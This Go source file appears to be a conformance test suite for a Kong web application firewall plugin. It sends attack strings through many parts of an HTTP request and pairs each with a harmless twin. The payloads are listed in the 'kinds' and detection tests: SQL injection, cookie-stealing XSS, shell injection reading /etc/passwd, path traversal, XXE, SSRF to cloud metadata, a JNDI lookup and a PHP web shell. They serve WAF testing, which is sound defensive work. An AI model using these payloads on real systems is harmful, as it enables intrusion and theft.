package conformance

import (
	"cmp"
	"errors"
	"fmt"
	"strings"

	"kongwaf/kong/gateway/gatewaytest"
)

// behaviours lists the whole suite, in the order in which it is tried.
func behaviours() []behaviour {
	var all []behaviour
	for _, group := range [][]behaviour{plain(), detection(), answers(), addresses(), keys(), limits(), together(), beside(), underLoad()} {
		all = append(all, group...)
	}
	return all
}

// one makes a behaviour of a single request.
func one(group, name, route string, c call, w want) behaviour {
	return behaviour{group: group, name: name, try: func(t *trial) error { return t.expect("", route, c, w) }}
}

// steps makes a behaviour of several requests.
func steps(group, name string, try func(*trial) error) behaviour {
	return behaviour{group: group, name: name, try: try}
}

func plain() []behaviour {
	return []behaviour{
		one("plain", "a route without plugins reaches the upstream", "plain", call{target: "/a%20b?q=1&r"}, want{status: 200, upstream: true, received: func(r gatewaytest.Received) string {
			if r.Target != "/a%20b?q=1&r" {
				return "the upstream received the target " + r.Target
			}
			return ""
		}}),
	}
}

const (
	formType = "application/x-www-form-urlencoded"
	jsonType = "application/json"
	// attack closes a quote and makes a condition true; harmless has the same signs.
	attack   = "' OR 1=1 -- "
	harmless = "Don't stop -- it's OR-some"
)

var escape = strings.NewReplacer("'", "%27", " ", "%20", "=", "%3D").Replace

// padding is longer than what Kong keeps of a body in memory: it hands over a file.
var padding = strings.Repeat("Lorem+ipsum+dolor+sit+amet. ", 600)

// places are where an attack may stand in a request.
func places() []struct {
	name string
	at   func(value string) call
} {
	form := func(body string) call {
		return call{method: "POST", body: body, headers: []string{"Content-Type", formType}}
	}
	manyHeaders := func(n int) (out []string) {
		for i := range n {
			out = append(out, fmt.Sprintf("X-Pad-%d", i), "v")
		}
		return out
	}
	return []struct {
		name string
		at   func(value string) call
	}{
		{"a query value", func(v string) call { return call{target: "?q=" + escape(v)} }},
		{"a query name", func(v string) call { return call{target: "?" + escape(v) + "=1"} }},
		{"a query value encoded twice", func(v string) call { return call{target: "?q=" + strings.ReplaceAll(escape(v), "%", "%25")} }},
		{"a path segment", func(v string) call { return call{target: "/" + escape(v) + "/x"} }},
		{"a header", func(v string) call { return call{headers: []string{"X-Name", v}} }},
		{"a cookie", func(v string) call { return call{headers: []string{"Cookie", "a=b; name=" + escape(v)}} }},
		{"the query of the Referer", func(v string) call { return call{headers: []string{"Referer", "https://x.example/a?q=" + escape(v)}} }},
		{"a form", func(v string) call { return form("a=1&b=" + escape(v)) }},
		{"JSON", func(v string) call {
			return call{method: "POST", body: `{"a":[{"b":"` + v + `"}]}`, headers: []string{"Content-Type", jsonType}}
		}},
		{"JSON that says it is a form", func(v string) call { return form(`{"a":"` + v + `"}`) }},
		{"JSON in a form field", func(v string) call { return form("a=" + escape(`{"b":"`+v+`"}`)) }},
		{"XML", func(v string) call {
			return call{method: "POST", body: "<a><b>" + v + "</b></a>", headers: []string{"Content-Type", "application/xml"}}
		}},
		{"multipart", func(v string) call {
			return call{method: "POST", headers: []string{"Content-Type", "multipart/form-data; boundary=x"},
				body: "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + v + "\r\n--x--\r\n"}
		}},
		{"a GraphQL argument", func(v string) call {
			return call{method: "POST", headers: []string{"Content-Type", jsonType}, body: `{"query":"{ user(name: \"` + v + `\") { id } }"}`}
		}},
		{"the body of a GET", func(v string) call {
			return call{body: "a=" + escape(v), headers: []string{"Content-Type", formType}}
		}},
		{"a body without a content type", func(v string) call { return call{method: "PUT", body: "a=" + escape(v)} }},
		{"a body that Kong keeps in a file", func(v string) call { return form("a=" + strings.ReplaceAll(padding, " ", "+") + "&b=" + escape(v)) }},
		{"a chunked body", func(v string) call {
			return call{method: "POST", chunked: true, body: "a=" + escape(v), headers: []string{"Content-Type", formType}}
		}},
		{"a header beside one that is not UTF-8", func(v string) call { return call{headers: []string{"X-Bin", "\xff\xfe", "X-Name", v}} }},
		{"a target that is not UTF-8", func(v string) call { return call{target: "?z=%ff&q=" + escape(v) + "\xff"} }},
		{"a header behind 300 others", func(v string) call { return call{headers: append(manyHeaders(300), "X-Name", v)} }},
		{"a header behind one with a trailing blank", func(v string) call { return call{headers: []string{"X-A", "3 ", "X-Name", v}} }},
		{"the second of two equal headers", func(v string) call { return call{headers: []string{"X-Name", "a", "X-Name", v}} }},
		{"a target in absolute form", func(v string) call { return call{absolute: true, target: "?q=" + escape(v)} }},
	}
}

// detection: an attack everywhere, each beside its harmless twin.
func detection() []behaviour {
	var all []behaviour
	for _, p := range places() {
		all = append(all, steps("detect", "an attack in "+p.name+" is refused, its twin is not", func(t *trial) error {
			return cmp.Or(t.expect("the attack", "detect", p.at(attack), blocked), t.expect("the twin", "detect", p.at(harmless), passes))
		}))
	}
	for _, kind := range kinds() {
		all = append(all, steps("detect", kind.name+" is refused, its twin is not", func(t *trial) error {
			at := func(v string) call {
				return call{method: "POST", body: "value=" + percent(v), headers: []string{"Content-Type", formType}}
			}
			return cmp.Or(t.expect("the attack", "detect", at(kind.attack), blocked), t.expect("the twin", "detect", at(kind.twin), passes))
		}))
	}
	overHTTP2 := func(t *trial) error {
		at := func(v string) call {
			return call{http2: true, method: "POST", body: "a=" + escape(v), headers: []string{"Content-Type", formType}}
		}
		return cmp.Or(t.expect("the attack", "detect", at(attack), blocked), t.expect("the twin", "detect", at(harmless), passes))
	}
	reported := func(verdict string) want {
		return want{status: 200, upstream: true, received: func(r gatewaytest.Received) string { return headerIs(r, "X-WAF-Verdict", verdict) }}
	}
	whole := func(query string) call {
		return call{method: "POST", body: `{"query":"` + query + `"}`, headers: []string{"Content-Type", jsonType}}
	}
	large := func(v string) call {
		return call{method: "POST", body: "a=" + strings.Repeat("x", 200_000) + "&b=" + escape(v), headers: []string{"Content-Type", formType}}
	}
	return append(all,
		behaviour{group: "detect", name: "an attack over HTTP/2 without a length is refused, its twin is not", leave: withoutHTTP2, try: overHTTP2},
		steps("detect", "more headers than Kong shows hide nothing", func(t *trial) error {
			var headers []string
			for i := range 1000 {
				headers = append(headers, fmt.Sprintf("X-P%d", i), "v")
			}
			answer, received, err := t.send("detect", call{headers: append(headers, "X-Name", attack)})
			switch {
			case err != nil:
				return err
			case answer.Status < 400 || len(received) > 0:
				return fmt.Errorf("answered %d", answer.Status)
			}
			return nil
		}),
		steps("detect", "monitoring lets an attack through and tells the upstream", func(t *trial) error {
			return cmp.Or(t.expect("the attack", "monitoring", call{target: "?q=" + escape(attack), headers: []string{"X-WAF-Verdict", "passed"}}, reported("reported")),
				t.expect("the twin", "monitoring", call{target: "?q=" + escape(harmless)}, reported("passed")))
		}),
		one("detect", "off looks at nothing", "off", call{target: "?q=" + escape(attack)}, passes),
		steps("detect", "an exception holds for its place and class only", func(t *trial) error {
			return cmp.Or(t.expect("its place", "excepted", call{target: "?q=" + escape(attack)}, passes),
				t.expect("another place", "excepted", call{target: "?r=" + escape(attack)}, blocked),
				t.expect("another class", "excepted", call{target: "?q=%3Cscript%3Ealert(1)%3C/script%3E"}, blocked))
		}),
		steps("detect", "expected SQL passes as a whole statement, a break-out does not", func(t *trial) error {
			return cmp.Or(t.expect("a statement", "expects", whole("SELECT id, name FROM users WHERE id = 7"), passes),
				t.expect("a break-out", "expects", whole("x' UNION SELECT password FROM users -- "), blocked),
				t.expect("a statement on a route that expects none", "detect", whole("SELECT id, name FROM users WHERE id = 7"), blocked))
		}),
		steps("detect", "a field behind max_body_size is judged", func(t *trial) error {
			return cmp.Or(t.expect("the attack", "large", large(attack), blocked), t.expect("the twin", "large", large(harmless), passes))
		}),
		steps("detect", "on_oversize deny answers 413", func(t *trial) error {
			return cmp.Or(t.expect("too long", "oversize", large("x"), want{status: 413, message: "Request body too large"}),
				t.expect("short enough", "oversize", call{method: "POST", body: "a=1", headers: []string{"Content-Type", formType}}, passes))
		}),
		steps("detect", "the upstream receives the bytes that were sent", func(t *trial) error {
			body := `{"name":"Ann","note":"it's fine"}`
			return t.expect("", "detect", call{method: "POST", target: "/x%20y?q=%C3%A9&r", body: body, headers: []string{"Content-Type", jsonType, "X-Bin", "\xff"}},
				want{status: 200, upstream: true, received: func(r gatewaytest.Received) string {
					if r.Target != "/x%20y?q=%C3%A9&r" || r.Body != body {
						return "the upstream received " + r.Target + " " + r.Body
					}
					return headerIs(r, "X-Bin", "\xff")
				}})
		}),
	)
}

// kinds are one attack for each of the larger classes, each with a harmless twin.
func kinds() []struct{ name, attack, twin string } {
	return []struct{ name, attack, twin string }{
		{"a script", "<script>alert(document.cookie)</script>", "I <3 scripts & alerts (all of them)"},
		{"a shell command", "; cat /etc/passwd", "cats; dogs and /etc"},
		{"a path that climbs", "../../../../etc/passwd", "docs/etc/manual.txt"},
		{"a template's expression", "{{7*7}}${7*7}<%= 7*7 %>", "{name} costs 7*7 $"},
		{"a URL of the cloud's metadata", "http://169.254.169.254/latest/meta-data/", "http://example.com/latest/news/"},
		{"an external entity", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, "<a>fish &amp; chips</a>"},
		{"a lookup by JNDI", "${jndi:ldap://198.51.100.7/a}", "jndi and ldap are old"},
		{"a filter of MongoDB", `{"$where":"this.password.length>0"}`, `{"where":"the heart is"}`},
		{"a PHP file", "<?php system($_GET['c']); ?>", "what is php?"},
	}
}

// answers: a refusal in the form that the client asks for.
func answers() []behaviour {
	refused := func(show, accept, contentType string, contains string) behaviour {
		return steps("answers", show, func(t *trial) error {
			answer, received, err := t.send("detect", call{target: "?q=" + escape(attack), headers: []string{"Accept", accept}})
			switch {
			case err != nil:
				return err
			case answer.Status != 403 || len(received) > 0:
				return fmt.Errorf("answered %d", answer.Status)
			case !strings.HasPrefix(answer.Headers.Get("Content-Type"), contentType):
				return fmt.Errorf("Content-Type is %q", answer.Headers.Get("Content-Type"))
			case !strings.Contains(answer.Body, contains) || !strings.Contains(answer.Body, "Request blocked"):
				return fmt.Errorf("the body is %s", brief(answer.Body))
			}
			return nil
		})
	}
	return []behaviour{
		refused("JSON where nothing is asked for", "*/*", "application/json", `"request_id"`),
		refused("HTML for a browser", "text/html,application/xhtml+xml,*/*;q=0.8", "text/html", "<"),
		refused("plain text", "text/plain", "text/plain", ""),
		one("answers", "the status and message of the config", "teapot", call{target: "?q=" + escape(attack)}, want{status: 418, message: "Not here"}),
		one("answers", "HEAD gets a head only", "detect", call{method: "HEAD", target: "?q=" + escape(attack)}, want{status: 403}),
		{group: "answers", name: "a gRPC caller gets a gRPC status", leave: withoutHTTP2, try: func(t *trial) error {
			text := attack
			message := string([]byte{0, 0, 0, 0, byte(len(text) + 2), 0x0a, byte(len(text))}) + text
			return t.expect("", "detect", call{http2: true, method: "POST", target: "/pkg.Service/Method", body: message, headers: []string{"Content-Type", "application/grpc", "TE", "trailers"}},
				want{status: 200, headers: []string{"Grpc-Status", "7", "Grpc-Message", "Request blocked"}})
		}},
	}
}

// withoutHTTP2 leaves a behaviour out where the proxy speaks no HTTP/2.
func withoutHTTP2(target *Target) string {
	t := &trial{target: target}
	if _, _, err := t.send("plain", call{http2: true}); errors.Is(err, errNoHTTP2) {
		return "the proxy speaks no HTTP/2 at this address (http2 in proxy_listen)"
	}
	return ""
}

// percent encodes every byte that is not a letter or digit.
func percent(s string) string {
	var b strings.Builder
	for i := range len(s) {
		c := s[i]
		if c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}
